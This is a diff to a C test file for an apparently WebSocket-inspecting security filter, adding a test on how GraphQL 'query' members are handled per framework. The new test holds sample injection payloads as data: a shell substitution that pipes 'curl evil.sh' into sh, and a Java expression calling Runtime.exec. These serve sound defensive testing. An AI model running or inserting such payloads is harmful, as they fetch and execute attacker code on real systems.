@@ -318,6 +318,32 @@ WSG_TEST(graphql_literals)
 	}
 }
 
+/*
+ * A "query" member is a document only where the handshake offered GraphQL: elsewhere an
+ * attacker who writes a payload as a lexically valid document ("query { a } $(...)") would
+ * have its words skipped, so it is an ordinary value.
+ */
+WSG_TEST(graphql_documents_only_on_graphql_connections)
+{
+	static const char *const m[] = {
+		"{\"query\":\"query { a } $(curl evil.sh|sh)\"}",
+		"{\"search\":{\"query\":\"{ x } ${T(java.lang.Runtime).getRuntime().exec(calc)}\"}}",
+	};
+	static const enum wsg_framework others[] = { WSG_FW_AUTO, WSG_FW_JSON, WSG_FW_SOCKETIO,
+						     WSG_FW_JSONRPC };
+
+	REQUIRE(wsg_inspect_init() == 0, "init");
+	for (size_t i = 0; i < sizeof(m) / sizeof(m[0]); i++) {
+		struct wsg_finding f = {};
+
+		CHECK(!wsg_inspect(WSG_FW_GRAPHQL, 1, m[i], strlen(m[i]), &f),
+		      "GraphQL connection: a document's names are no values: %s", f.rule);
+		for (size_t k = 0; k < sizeof(others) / sizeof(others[0]); k++)
+			CHECK(wsg_inspect(others[k], 1, m[i], strlen(m[i]), &f),
+			      "framework %d: %s passed", others[k], m[i]);
+	}
+}
+
 /* ---- the framework guess and the handshake choice ---- */
 
 WSG_TEST(framework_guess)
@@ -544,7 +570,7 @@ WSG_TEST(inspect_hostile_structures)
 		H("stomp frames", "", "ACK\nid:1\n\n\0", "", "dec-005", 1001, WSG_FW_AUTO),
 		H("stomp headers", "SEND\n", "a:b\n", "\n\0", "dec-002", 10001, WSG_FW_STOMP),
 		H("graphql literals", "{\"type\":\"start\",\"payload\":{\"query\":\"{ a(",
-		  "x: \\\"y\\\" ", ") }\"}}", "dec-006", 1001, WSG_FW_AUTO),
+		  "x: \\\"y\\\" ", ") }\"}}", "dec-006", 1001, WSG_FW_GRAPHQL),
 		H("stomp deep json body", "SEND\n\n", "[", "\0", "dec-001", 40, WSG_FW_STOMP),
 	};
 #undef H
@@ -695,16 +721,22 @@ static const struct {
 	 * to anchor on in the raw bytes there, and soundness forbids inventing one.
 	 */
 	int floor;
+	/*
+	 * Its clients always name fw in the handshake (GraphQL over WebSocket requires the
+	 * subprotocol): the "auto" column reads it as fw too. Without the offer a "query"
+	 * member is no document (inspect.c).
+	 */
+	int declared;
 } wsg_envs[WSG_ENV_COUNT] = {
 	[WSG_ENV_SIO] = { "socket.io event", WSG_FW_SOCKETIO, 1, 99 },
 	[WSG_ENV_JSON] = { "plain JSON field", WSG_FW_JSON, 1, 99 },
-	[WSG_ENV_GQL_VAR] = { "graphql-ws variable", WSG_FW_GRAPHQL, 1, 99 },
+	[WSG_ENV_GQL_VAR] = { "graphql-ws variable", WSG_FW_GRAPHQL, 1, 99, 1 },
 	[WSG_ENV_STOMP_TEXT] = { "STOMP SEND text body", WSG_FW_STOMP, 1, 95 },
 	[WSG_ENV_STOMP_JSON] = { "STOMP SEND JSON body", WSG_FW_STOMP, 1, 99 },
 	[WSG_ENV_SIGNALR] = { "SignalR JSON argument", WSG_FW_SIGNALR, 1, 99 },
 	[WSG_ENV_JSONRPC] = { "JSON-RPC params", WSG_FW_JSONRPC, 1, 99 },
 	[WSG_ENV_UESC] = { "socket.io all \\u-escaped", WSG_FW_SOCKETIO, 1, 99 },
-	[WSG_ENV_GQL_LIT] = { "graphql inline literal", WSG_FW_GRAPHQL, 1, 95 },
+	[WSG_ENV_GQL_LIT] = { "graphql inline literal", WSG_FW_GRAPHQL, 1, 95, 1 },
 	[WSG_ENV_SIGNALR_MP] = { "SignalR MessagePack arg", WSG_FW_SIGNALR, 0, 95 },
 };
 
@@ -827,7 +859,8 @@ static void wsg_env_judge(struct wsg_env_stats *st, const struct wsg_pf_table *p
 		st->tried[env] += !attack || sio > 0;
 		for (int k = 0; k < 2; k++) {
 			struct wsg_finding f = {};
-			enum wsg_framework fw = k ? wsg_envs[env].fw : WSG_FW_AUTO;
+			enum wsg_framework fw = k || wsg_envs[env].declared ? wsg_envs[env].fw :
+									       WSG_FW_AUTO;
 			int blk = wsg_inspect(fw, wsg_envs[env].is_text, b.s, b.n, &f);
 
 			if (env == WSG_ENV_SIO && !k)
